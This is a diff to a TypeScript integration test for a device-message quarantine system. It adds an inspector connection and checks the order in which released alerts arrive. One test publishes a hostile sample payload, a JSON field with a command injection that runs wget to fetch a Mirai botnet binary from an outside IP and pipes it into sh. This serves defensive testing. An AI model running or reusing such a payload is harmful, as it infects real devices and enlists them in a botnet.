@@ -12,7 +12,8 @@ import { jetstream, type NatsConnection } from "../../app/shared/nats.ts";
 import type { Region } from "../../local/region.ts";
 import { type ApiClient, regionApi } from "../support/api-client.ts";
 import { boundStream } from "../support/bounded.ts";
-import { connectDevice, registerDevice } from "../support/clients.ts";
+import { connectInTime, registerDevice } from "../support/clients.ts";
+import { storeAlert } from "../support/numbered-alerts.ts";
 import { connectAs, readAudit, readStream } from "../support/stored.ts";
 import { startTestRegion } from "../support/test-region.ts";
 
@@ -23,6 +24,7 @@ const each = 50;
 let region: Region;
 let operator: NatsConnection;
 let bridge: NatsConnection;
+let inspector: NatsConnection;
 let settings: Record<string, string>;
 let viewer: ApiClient;
 let releasing: ApiClient;
@@ -32,6 +34,7 @@ beforeAll(async () => {
   region = await startTestRegion({ ...counts, console: true });
   operator = await connectAs(region, "operator");
   bridge = await connectAs(region, "bridge");
+  inspector = await connectAs(region, "inspector");
   viewer = regionApi(region, "viewer");
   releasing = regionApi(region, "operator");
   settings = {
@@ -43,7 +46,7 @@ beforeAll(async () => {
   };
 });
 afterAll(async () => {
-  await Promise.all([operator, bridge].map((connection) => connection?.close()));
+  await Promise.all([operator, bridge, inspector].map((connection) => connection?.close()));
   await region?.stop();
 });
 
@@ -81,11 +84,15 @@ it("1,000 messages are released in bulk, each once and in order, though both end
   const all = () => readStream(operator, "QUARANTINE", subjects.quarantine("upstream", "*"));
   await expect.poll(async () => (await all()).length, soon).toBe(clients * each);
   const secret = await registerDevice(region, "bulk-0");
-  const device = await connectDevice(region, { clientId: "bulk-0", password: secret });
+  const device = await connectInTime(region, { clientId: "bulk-0", password: secret });
   await device.client.subscribeAsync(topics.alerts("bulk-0"));
 
+  const since = '{"since":"it was held"}';
+  await storeAlert(inspector, "bulk-0", since);
   const stored = async () =>
-    (await readStream(operator, "MQTT_ALERTS")).filter(({ subject }) => subject.includes("bulk-"));
+    (await readStream(operator, "MQTT_ALERTS")).filter(
+      ({ subject, payload }) => subject.includes("bulk-") && payload !== since,
+    );
   const operation = randomUUID();
   const args = ["quarantine", "release", "--all", "--reason", "a rule was wrong", "--yes"];
   const first = startSentinel([...args, "--operation", operation], settings);
@@ -114,9 +121,10 @@ it("1,000 messages are released in bulk, each once and in order, though both end
     expect(numbers).toEqual(Array.from({ length: each }, (_, n) => n));
   }
   expect(delivered.every((alert) => Number(alert.header(headers.released)) > 0)).toBe(true);
+  const released = Array.from({ length: each }, (_, n) => JSON.stringify({ client: "bulk-0", n }));
   await expect
-    .poll(() => device.received.map(({ payload }) => JSON.parse(payload).n), soon)
-    .toEqual(Array.from({ length: each }, (_, n) => n));
+    .poll(() => device.received.map(({ payload }) => payload), soon)
+    .toEqual([since, ...released]);
   await device.client.endAsync(true);
   const again = await sentinel(args, settings);
   expect([again.code, again.stdout]).toEqual([0, "0 released\n"]);
@@ -196,7 +204,7 @@ describe("a held message", () => {
 
   it("of a device goes to REPORTS, by those who inspect reports", async () => {
     const password = await registerDevice(region, "reporting-1");
-    const { client } = await connectDevice(region, { clientId: "reporting-1", password });
+    const { client } = await connectInTime(region, { clientId: "reporting-1", password });
     const attack = '{"command":"; wget http://203.0.113.9/bins/mirai.arm7 -O- | sh"}';
     await client.publishAsync(topics.reports("reporting-1"), attack, { qos: 1 });
     await client.endAsync(true);
